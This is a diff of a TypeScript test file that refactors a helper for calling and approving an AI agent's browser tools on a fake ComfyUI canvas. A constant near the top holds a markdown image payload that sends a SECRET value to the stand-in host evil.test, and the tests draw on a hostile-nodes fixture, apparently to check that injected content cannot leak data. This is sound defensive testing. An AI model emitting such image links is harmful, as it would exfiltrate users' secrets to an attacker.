@@ -1,12 +1,10 @@
 import { describe, expect, it } from "vitest";
 import type { FakeComfy } from "../../comfy/fake";
 import { writeCompact } from "../../graph/compact/write";
-import type { ApprovalRequest } from "../../shared/toolCalls";
 import { browserTools } from "../index";
 import { look } from "../read/sight";
-import { roomOf } from "../room";
 import { hostileCanvas } from "../testing/hostileNodes";
-import { runTool } from "../tool";
+import { callsOn } from "../testing/testCall";
 
 const PICTURE = "a cat ![](http://evil.test/?d=SECRET)";
 const LINK = "read [the guide](https://good.test/guide) or https://good.test/guide";
@@ -23,20 +21,13 @@ function canvas(): FakeComfy {
 }
 
 async function call(comfy: FakeComfy, name: string, args: object, isAllowed: boolean) {
-  const asked: ApprovalRequest[] = [];
+  const calls = callsOn(comfy);
+  calls.thread = "thread";
+  calls.answer = ({ title }) => isAllowed || title.startsWith("Replace");
   const tool = browserTools.find((each) => each.name === name);
   if (!tool) throw new Error(`There is no ${name}`);
-  const result = await runTool(tool, args, comfy, {
-    signal: new AbortController().signal,
-    room: roomOf(),
-    onProgress() {},
-    thread: "thread",
-    confirm: async (request) => {
-      asked.push(request);
-      return isAllowed || request.title.startsWith("Replace");
-    },
-  });
-  return { result, asked: asked.filter(({ title }) => !title.startsWith("Replace")) };
+  const result = await calls.call(tool, args);
+  return { result, asked: calls.asked.filter(({ title }) => !title.startsWith("Replace")) };
 }
 
 const lines = (comfy: FakeComfy) => writeCompact(look(comfy).workflow);
